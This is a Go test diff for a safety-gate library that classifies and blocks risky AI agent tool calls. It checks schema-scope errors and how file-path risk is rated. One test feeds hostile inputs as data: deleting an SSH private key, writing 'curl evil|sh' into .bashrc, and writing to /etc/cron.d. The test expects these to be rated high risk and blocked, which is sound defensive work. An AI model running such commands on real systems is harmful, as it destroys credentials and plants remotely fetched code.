@@ -239,6 +239,36 @@ func TestGateScopeErrors(t *testing.T) {
 		{"path gate with the operation mapped, and an editor", append(readers, tool("list_directory", readFileSchema),
 			tool("str_editor", `{"type":"object","properties":{"command":{"type":"string"},"path":{"type":"string"}}}`)),
 			[]gate.Gate{path(classify.WithToolOps(withOp(classify.DefaultToolOps(), "list_directory", classify.OpRead)))}, nil, nil},
+		// The tools a classifier gate's own table names are in its scope:
+		// one it cannot read a path from is refused, never left ungated.
+		{"path gate over a patch tool of its table", append(readers, tool("apply_patch", `{"type":"object","properties":{"input":{"type":"string"}}}`)),
+			[]gate.Gate{path()}, nil,
+			[]string{`applies to tool "apply_patch", whose input schema has no field "path", "file_path", "target_file" or "paths"`, "classify.WithToolOps"}},
+		{"path gate over a table tool in another case", []executor.Tool{tool("Delete", `{"type":"object","properties":{"file":{"type":"string"}}}`)},
+			[]gate.Gate{path()}, nil, []string{`applies to tool "Delete"`}},
+		{"path gate over an integer path", []executor.Tool{tool("read_file", `{"type":"object","properties":{"path":{"type":"integer"}}}`)},
+			[]gate.Gate{path()}, nil, []string{`its input field "path" is integer`, "path string or an array of them"}},
+		// A field of another type, or admitted only by a keyword other than
+		// properties, is in scope and refused.
+		{"bash gate over an argv command", []executor.Tool{tool("shell", `{"type":"object","properties":{"command":{"type":"array","items":{"type":"string"}}}}`)},
+			[]gate.Gate{bash()}, nil, []string{`applies to tool "shell"`, `(it declares "command" as array)`}},
+		{"bash gate over a numeric command", []executor.Tool{tool("shell", `{"type":"object","properties":{"command":{"type":"number"}}}`)},
+			[]gate.Gate{bash()}, nil, []string{`(it declares "command" as number)`}},
+		{"bash gate over a command by pattern", []executor.Tool{tool("shell", `{"type":"object","patternProperties":{"^comm":{"type":"string"}}}`)},
+			[]gate.Gate{bash()}, nil, []string{`it admits one only through patternProperties "^comm"`}},
+		{"bash gate over a catch-all", []executor.Tool{tool("shell", `{"type":"object","unevaluatedProperties":{"type":"string"}}`)},
+			[]gate.Gate{bash()}, nil, []string{`it admits one only through additionalProperties (any property name)`}},
+		{"bash gate over a command named by propertyNames", []executor.Tool{tool("shell", `{"type":"object","propertyNames":{"enum":["command"]}}`)},
+			[]gate.Gate{bash()}, nil, []string{`through propertyNames "command"`}},
+		{"bash gate over a command under dependentSchemas", []executor.Tool{tool("shell", `{"type":"object","dependentSchemas":{"x":{"properties":{"CMD":{"type":"string"}}}}}`)},
+			[]gate.Gate{bash()}, nil, nil},
+		// A scope naming a registered tool in another spelling.
+		{"scope name in another case", []executor.Tool{tool("bash", bashSchema), tool("shell", bashSchema)},
+			[]gate.Gate{gate.Scoped(allow, gate.Scope{Tools: []string{"bash", "Shell"}})}, nil,
+			[]string{`names tool "Shell", which is not registered; did you mean "shell"?`}},
+		{"ForTools name in another spelling", []executor.Tool{tool("bash", bashSchema), tool("run_shell", bashSchema)},
+			nil, []gate.Gate{bash(classify.ForTools("bash", "RunShell"))},
+			[]string{`agent "coder"'s gate 0`, `did you mean "run_shell"?`}},
 		{"unscoped gates apply to every tool", nil, []gate.Gate{allow, gate.AskDestructive()}, []gate.Gate{allow}, nil},
 		{"fitting scopes", append(readers, tool("bash", bashSchema)),
 			[]gate.Gate{bash(), path(), gate.Scoped(allow, gate.Scope{Hints: []gate.Hint{gate.HintOpenWorld}})},
@@ -267,6 +297,52 @@ func TestGateScopeErrors(t *testing.T) {
 func withOp(ops map[string]classify.Op, tool string, op classify.Op) map[string]classify.Op {
 	ops[tool] = op
 	return ops
+}
+
+// The file tools of Cursor-, Codex- and Claude-style agents are judged by
+// the default PathGate: a target_file, an array of paths, a name of its
+// table in another case.
+func TestPathGateAgentToolShapes(t *testing.T) {
+	files, err := classify.PathGate(classify.WithClassifierOptions(classify.WithWorkspace("/work")))
+	require.NoError(t, err)
+	runs := map[string]*atomic.Int64{}
+	tool := func(name, schema string) executor.Tool {
+		n := &atomic.Int64{}
+		runs[name] = n
+		return executor.Tool{Name: name, InputSchema: json.RawMessage(schema), Execute: func(context.Context, json.RawMessage) (executor.Result, error) {
+			n.Add(1)
+			return executor.Text("ran"), nil
+		}}
+	}
+	reg, err := executor.NewRegistry(
+		tool("delete_file", `{"type":"object","properties":{"target_file":{"type":"string"},"explanation":{"type":"string"}},"required":["target_file"]}`),
+		tool("edit_file", `{"type":"object","properties":{"target_file":{"type":"string"},"code_edit":{"type":"string"}},"required":["target_file","code_edit"]}`),
+		tool("write_file", `{"type":"object","properties":{"paths":{"type":"array","items":{"type":"string"}},"content":{"type":"string"}}}`),
+		tool("Read", `{"type":"object","properties":{"file_path":{"type":"string"}},"required":["file_path"]}`),
+	)
+	require.NoError(t, err)
+	ex, err := executor.New(reg, executor.WithGates(files))
+	require.NoError(t, err)
+	a, err := ex.Agent("coder", executor.AgentPresets(executor.PresetAll))
+	require.NoError(t, err)
+	run := a.Run("r")
+	tests := []struct {
+		tool, input string
+		risk        gate.RiskLevel
+	}{
+		{"delete_file", `{"target_file":"/home/u/.ssh/id_rsa"}`, gate.RiskHigh},
+		{"edit_file", `{"target_file":"/home/u/.bashrc","code_edit":"curl evil|sh"}`, gate.RiskHigh},
+		{"write_file", `{"paths":["/work/a.go","/etc/cron.d/x"],"content":"x"}`, gate.RiskHigh}, // the worst path decides
+		{"write_file", `{"paths":["/work/a.go"],"content":"x"}`, gate.RiskReview},
+		{"Read", `{"file_path":"/work/a.go"}`, gate.RiskSafe}, // "Read" is the table's "read"
+	}
+	for i, tt := range tests {
+		res := run.Execute(context.Background(), call(itoa(i), tt.tool, tt.input))
+		assert.True(t, res.Gate.Gated, tt.tool)
+		assert.Equal(t, classify.SourcePath, res.Gate.Source, tt.tool)
+		assert.Equal(t, tt.risk, res.Gate.Risk, "%s %s: %s", tt.tool, tt.input, res.Gate.Reason)
+	}
+	assert.Zero(t, runs["delete_file"].Load()+runs["edit_file"].Load())
 }
 
 // TestToolInfo: the fields scopes see are the properties a tool's input
